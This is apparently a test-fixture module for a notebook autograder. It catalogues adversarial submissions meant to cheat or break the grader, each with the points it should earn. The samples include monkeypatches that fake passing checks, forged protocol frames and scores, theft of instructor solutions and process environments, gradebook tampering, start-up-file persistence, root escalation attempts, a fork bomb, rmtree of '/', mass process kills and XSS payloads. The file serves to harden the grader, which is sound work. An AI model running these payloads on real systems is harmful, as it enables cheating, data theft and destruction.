# ruff: noqa: E501
"""Answers that try to get points that they did not earn, or to hurt others, and how they fare.

Each is the code of some questions of a small exercise: ``mean_square(x)`` (3 points), ``halves(n)``
(2 points) and ``ranks(x)`` (2 points). ``points`` is what is honestly earned; None where any score
will do.
"""

from typing import NamedTuple

RIGHT_Q1 = "def mean_square(x):\n    return (x ** 2).mean()\n"
RIGHT_Q2 = """\
def halves(n):
    found = []
    while n:
        found.append(n)
        n //= 2
    return found
"""


class Attack(NamedTuple):
    """An answer, and the points that it has earned."""

    name: str
    q1: str
    q2: str
    points: float | None
    q3: str = ""


TAMPER: dict[str, str] = {
    "patch allclose": "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True",
    "patch randn": "import torch\ntorch.randn = lambda *a, **k: torch.zeros(1, dtype=torch.float64)",
    "patch Tensor": "import torch\ntorch.Tensor.__eq__ = torch.Tensor.__lt__ = lambda *a: True",
    "patch abs": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.all = lambda x: True",
    "equal to everything": """\
class Yes:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __bool__(self): return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = __add__ = __getitem__ = lambda self, *a: self
    __hash__ = object.__hash__
mean_square = halves = lambda *a: Yes()""",
    "tensor that agrees": """\
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True
mean_square = lambda x: torch.zeros((), dtype=x.dtype).as_subclass(Yes)
class L(list):
    __eq__ = lambda self, other: True
halves = lambda n: L([1])""",
    "float that agrees": """\
class F(float):
    __eq__ = __lt__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: F(0)
mean_square = lambda x: F(1)""",
    "array protocol": """\
class A:
    def __array__(self, *a, **k): raise SystemExit
    def __torch_function__(self, *a, **k): return True
    def __reduce__(self): return (print, ("owned",))
mean_square = halves = lambda x: A()""",
    "syntax trees": """\
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())""",
    "input transformer": """\
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])""",
    "run_cell": """\
ip = get_ipython()
ip.run_cell = lambda *a, **k: None
type(ip).run_cell = lambda *a, **k: None
ip.run_code = lambda *a, **k: None""",
    "compile": "import builtins\nbuiltins.compile = builtins.exec = lambda *a, **k: None",
    "json": "import json\njson.dumps = lambda *a, **k: '{\"tree\": true}'\njson.loads = dict",
    "struct": "import struct, socket\nstruct.pack = lambda *a: b''\nsocket.socket.sendall = lambda *a: None",
    "our modules": """\
import sys, autograder.exchange.server as p, autograder.exchange.serialize as w
p.Server._perform = lambda *a, **k: ({"tree": True, "tensors": []}, [])
w.serialize = None
sys.modules['torch'] = None""",
    "forged frames": """\
import os, struct, json
text = json.dumps({"tree": True, "tensors": []}).encode()
frame = struct.pack('>II', len(text), 0) + text
for fd in range(3, 40):
    for _ in range(50):
        try: os.write(fd, frame)
        except OSError: break""",
    "garbage frames": """\
import os
for fd in range(3, 40):
    try: os.write(fd, b'\\xff' * 4096)
    except OSError: pass""",
    "forged score": """\
import os, json
for fd in range(0, 60):
    try: os.write(fd, (json.dumps([3, {"score": 5.0}]) + chr(10)).encode() * 9)
    except OSError: pass""",
    "closed files": "import os\nos.closerange(0, 256)",
    "frames": """\
import sys, gc, inspect
def mean_square(x):
    frame = sys._getframe()
    while frame:
        frame.f_globals.update({'expected': 0, 'torch': None})
        frame = frame.f_back
    for one in gc.get_objects():
        if isinstance(one, dict) and 'expected' in one:
            return one['expected']
    for one in inspect.stack():
        if 'expected' in one.frame.f_locals: return one.frame.f_locals['expected']""",
    "instructor's files": """\
import glob, os, re
found = [p for top in ('/work', '/root', '/home', '/tmp', '/opt', '/srv', '/mnt', '/var')
         for pattern in ('/*', '/*/*', '/*/*/*', '/*/*/*/*') for p in glob.glob(top + pattern)
         if re.search(r'solutions|source|submitted|gradebook|vault|tests', p)
         and 'site-packages' not in p]
text = ''.join(open(p).read() for p in found if os.path.isfile(p))
if 'mean_square' in text or 'halves' in text:
    exec(re.search(r'def mean_square.*?return .*?$', text, re.S | re.M)[0])
    exec(RIGHT := 'halves = lambda n: [n >> k for k in range(n.bit_length())]')""",
    "another's answer": """\
import glob
for p in glob.glob('/**/submitted/**/*.ipynb', recursive=True) + glob.glob('/proc/*/cwd/*.ipynb'):
    if 'x ** 2' in open(p).read(): mean_square = lambda x: (x ** 2).mean()""",
    "other processes": """\
import os
for name in os.listdir('/proc'):
    if name.isdigit() and int(name) > 1:
        with open(f'/proc/{name}/environ', 'rb') as file: file.read()
        if b'judge' in open(f'/proc/{name}/cmdline', 'rb').read():
            mean_square = lambda x: (x ** 2).mean()""",
    "gradebook trigger": """\
import glob, sqlite3
for p in glob.glob('/**/gradebook.db', recursive=True):
    sqlite3.connect(p).executescript(
        'create trigger t after update on grade begin update grade set auto_score = 5; end;')""",
    "start-up files": """\
import os, site, sys
for place in {site.getusersitepackages(), *site.getsitepackages(), os.path.expanduser('~'), '/opt/grader'}:
    for name in ('sitecustomize.py', 'usercustomize.py', 'torch.py', '.pythonrc', 'x.pth'):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), 'w').write('import torch; torch.allclose = lambda *a, **k: True')
        except OSError: pass""",
    "network": """\
import socket
for address in (('127.0.0.1', 22), ('1.1.1.1', 80), ('127.0.0.1', 8888)):
    try:
        with socket.create_connection(address, 1): mean_square = lambda x: (x ** 2).mean()
    except OSError: pass""",
    "abstract sockets": """\
import socket
s = socket.socket(socket.AF_UNIX)
try: s.connect('\\0autograder')
except OSError: pass""",
    "withheld": """\
from gensrc.divergences import kl
def mean_square(x): return kl(x, x)
def halves(n): return kl(n, n)""",
    "withheld, from the file": """\
import gensrc.divergences, inspect
source = inspect.getsource(gensrc.divergences.kl)
assert 'log' in source, 'nothing to see'""",
    "NaN": "import math\nmean_square = lambda x: x.new_tensor(math.nan)\nhalves = lambda n: math.nan",
    "huge integers": "mean_square = halves = lambda x: 10 ** 100_000",
    "shape that lies": """\
import autograder.exchange.framing as w
w.tensor_head = lambda t: [str(t.dtype), [2 ** 39, 2 ** 39]]
import autograder.exchange.server as p
p.tensor_head = w.tensor_head
mean_square = lambda x: x.mean()""",
    "huge tensor": "import torch\nmean_square = lambda x: torch.empty(1).expand(2 ** 40)",
    "deep nesting": """\
def halves(n):
    found = []
    for _ in range(100_000): found = [found]
    return found
mean_square = halves""",
    "cycle": "def halves(n):\n    found = []\n    found.append(found)\n    return found\nmean_square = halves",
    "long list": "mean_square = halves = lambda x: [0] * 10_000_000",
    "endless iterator": "import itertools\nmean_square = halves = lambda x: itertools.count()",
    "exceptions of tests": "def mean_square(x): raise AssertionError\ndef halves(n): raise SystemExit(0)",
    "stop iteration": "def mean_square(x): raise StopIteration\ndef halves(n): raise GeneratorExit",
    "keyboard interrupt": "def mean_square(x): raise KeyboardInterrupt\ndef halves(n): raise KeyboardInterrupt",
    "exception that lies": """\
class Fine(Exception):
    def __str__(self): raise ValueError
    __class__ = property(lambda self: AssertionError)
def mean_square(x): raise Fine
halves = mean_square""",
    "changing its argument": """\
def mean_square(x):
    x.zero_()
    return x.sum()""",
    "changing the generator": """\
import torch
def mean_square(x):
    torch.manual_seed(0)
    return torch.randn((), dtype=x.dtype)""",
    "names of the tests": "expected = draw = x = torch = 0\nclose = check = lambda *a: True\nassertTrue = close",
    "handles that are none": """\
import autograder.exchange.handles as p
p.Handles.export = lambda self, value: {"handle": [10 ** 9, "function", "print"]}
class C: pass
mean_square = halves = lambda x: C()""",
    "functions by name": """\
import autograder.exchange.handles as p
p.Handles.export = lambda self, value: {"shared": ["torch", "load"]}
class C: pass
mean_square = halves = lambda x: C()""",
}

TAMPER |= {
    f"malformed reply {number}": f"""\
import autograder.exchange.server as p
p.Server._perform = lambda *a, **k: ({reply}, [])"""
    for number, reply in enumerate(
        [
            '{"error": 5}',
            '{"error": {"kinds": [[], {}, "SystemExit"], "text": []}}',
            '{"tensors": 7, "tree": None}',
            '{"tensors": [[1, 2, 3]], "tree": {"t": 0}}',
            '{"tensors": [], "tree": {"q": ["1e999999999", 1]}}',
            '{"tensors": [], "tree": {"D": "1e999999999"}}',
            '{"tensors": [], "tree": {"nt": ["gensrc.x", "__class__", ["_a"], [1]]}}',
            '{"tensors": [], "tree": True, "changed": [[0]]}',
            '{"tensors": [], "tree": True, "changed": {"a": 1}}',
            '{"tensors": [], "tree": {"m": 10 ** 9}}',
            '{"tensors": [], "tree": {"own": 1}}',
            '{"op": "get", "tree": "expected"}',
            '{"op": "call", "handle": 1, "tree": {"u": [{"u": []}, {"d": []}]}}',
            '{"op": "vjp", "of": 1, "outputs": [0], "drop": [[]]}',
        ]
    )
}
TAMPER |= {
    "answers sent twice": """\
import autograder.exchange.channel as c
send = c.Channel.send
def again(self, head, blobs):
    for _ in range(3): send(self, head, blobs)
c.Channel.send = again""",
    "an old answer sent again": """\
import autograder.exchange.channel as c
send, kept = c.Channel.send, []
def old(self, head, blobs):
    kept.append((head, blobs))
    send(self, *kept[0])
c.Channel.send = old
mean_square = lambda x: x.mean()""",
    "forged gradients": """\
import torch, autograder.exchange.server as p
p.Server._pull_back = lambda self, head, reader, leaves: [torch.zeros(10 ** 6)] * 3
mean_square = lambda x: x.sum() * 0""",
    "tracing": """\
import sys, threading
seen = {}
def look(frame, event, value):
    seen.update(frame.f_locals)
    return look
sys.settrace(look)
threading.settrace(look)
mean_square = lambda x: seen.get('expected')
halves = lambda n: seen.get('expected')""",
    "texts, tuples and dictionaries that agree": """\
from typing import NamedTuple
class P(NamedTuple):
    x: int
    __eq__ = lambda self, other: True
class S(str):
    __eq__ = lambda self, other: True
class D(dict):
    __eq__ = lambda self, other: True
    __missing__ = lambda self, key: self
turn = iter([P(1), S('a'), D()] * 99)
mean_square = halves = lambda x: next(turn)""",
    "namespaces within": f"""\
import ctypes, os
libc = ctypes.CDLL(None)
if libc.unshare(0x10000000) == 0 or libc.unshare(0x00020000) == 0 or os.geteuid() == 0:
    exec({RIGHT_Q1!r} + {RIGHT_Q2!r})""",
    "another user": f"""\
import os
for become in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.chroot('/')):
    try: become()
    except OSError: continue
    exec({RIGHT_Q1!r} + {RIGHT_Q2!r})""",
    "files left for the next": f"""\
import os
for top in ('/', '/dev', '/dev/mqueue', '/proc', '/opt', '/opt/grader', '/etc', '/usr', '/var', '/run'):
    try:
        with open(os.path.join(top, 'left'), 'x') as file: file.write('x ** 2')
    except FileExistsError: pass
    except OSError: continue
    exec({RIGHT_Q1!r} + {RIGHT_Q2!r})""",
    "start-up of the fork server": """\
import sys, importlib
class Hook:
    def find_spec(self, *a): raise SystemExit
sys.meta_path.insert(0, Hook())
sys.path[:] = []
importlib.invalidate_caches()""",
}

METHODS = """\
class Yes:
    def __getattr__(self, name):
        if name.startswith('__'): raise AttributeError(name)
        return lambda *a, **k: self if name in ('sub', 'abs') else 0.0 if name == 'max' else True
ranks = lambda x: Yes()
"""

BREAK: dict[str, str] = {
    "forged output": """\
import autograder.student.cells as s
evil = '"><script>alert(1)</script><img src="'
kinds = ('image/png', 'image/svg+xml', 'application/javascript', 'text/html', 'text/latex')
told = {'kind': 'display_data', 'data': {kind: evil for kind in kinds}}
s.Cells.run = lambda self, *a: {'shown': [told, *({'kind': 1, 'data': {k: evil}} for k in kinds)],
                                'error': {'type': evil, 'text': evil, 'traceback': evil}}""",
    "a path without end": """\
from IPython.display import display
print('/' * 20_000)
display({'text/plain': '~/' * 90_000}, raw=True)""",
    "Markdown that takes for ever": """\
from IPython.display import Markdown, display
for _ in range(9): display(Markdown('[' * 150_000))""",
    "shared memory": """\
import mmap
try:
    block = mmap.mmap(-1, 64 << 30)
    for place in range(0, 64 << 30, 4096): block[place] = 1
except (OSError, ValueError): pass""",
    "ends its process": "import os\nos._exit(0)",
    "ends in a call": "import os\ndef mean_square(x): os._exit(0)",
    "signals": """\
import os, signal
for number in range(1, 32):
    for pid in (os.getppid(), 1, -1, 0):
        try: os.kill(pid, number)
        except (OSError, ValueError): pass""",
    "crash": "import ctypes\nctypes.string_at(0)",
    "memory": "blocks = []\nwhile True: blocks.append(bytearray(1 << 28))",
    "fork bomb": """\
import os
try:
    while True: os.fork()
except OSError: pass""",
    "threads": """\
import threading, time
def loop():
    while True: time.sleep(0.1)
try:
    for _ in range(10_000): threading.Thread(target=loop, daemon=True).start()
except RuntimeError: pass""",
    "left behind": """\
import subprocess
subprocess.Popen(['sh', '-c', 'while true; do sleep 1; done'], start_new_session=True)""",
    "sleep in a call": "import time\ndef mean_square(x): time.sleep(10_000)",
    "endless loop": "while True: pass",
    "swallowed interrupt": """\
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM): signal.signal(number, signal.SIG_IGN)
def mean_square(x):
    while True:
        try:
            while True: pass
        except BaseException: pass""",
    "endless output": "import os\nfor _ in range(2_000): os.write(1, b'x' * 65536)",
    "full disk": """\
try:
    with open('big', 'wb') as file:
        while True: file.write(bytes(1 << 20))
except OSError: pass""",
    "many files": """\
try:
    for k in range(30_000): open(f'f{k}', 'w').close()
except OSError: pass""",
    "removes everything": "import shutil\nshutil.rmtree('/', ignore_errors=True)",
    "recursion": "def mean_square(x): return mean_square(x)",
    "warnings": "import sys, warnings\nwarnings.warn('careful')\nprint('harmless', file=sys.stderr)",
    "many pictures": """\
from IPython.display import Image, display
for _ in range(1000): display({'image/png': 'A' * 100_000}, raw=True)""",
    "active page": """\
from IPython.display import HTML, display
display(HTML('<script>fetch("https://example.org")</script><img src=x onerror=alert(1)>'))""",
    "binary output": "import os\nos.write(1, bytes(range(256)) * 10)",
    "closes its connection": "import os\nos.closerange(3, 256)",
}

ATTACKS = [
    *(Attack(name, code, "", 0) for name, code in TAMPER.items()),
    *(Attack(name, f"{RIGHT_Q1}\n{code}", RIGHT_Q2, None) for name, code in BREAK.items()),
    Attack("methods that agree", "", "", 0, METHODS),
]
EARNED = {
    "ends its process": 2,
    "ends in a call": 2,
    "crash": 2,
    "endless loop": 2,
    "memory": None,
    "sleep in a call": 2,
    "swallowed interrupt": 2,
    "endless output": 5,
    "full disk": 5,
    "many files": 5,
    "threads": 5,
    "left behind": 5,
    "recursion": 2,
    "warnings": 5,
    "shared memory": 5,
    "a path without end": 5,
    "Markdown that takes for ever": 5,
    "many pictures": 5,
    "active page": 5,
    "binary output": 5,
}
ATTACKS = [one._replace(points=EARNED.get(one.name, one.points)) for one in ATTACKS]
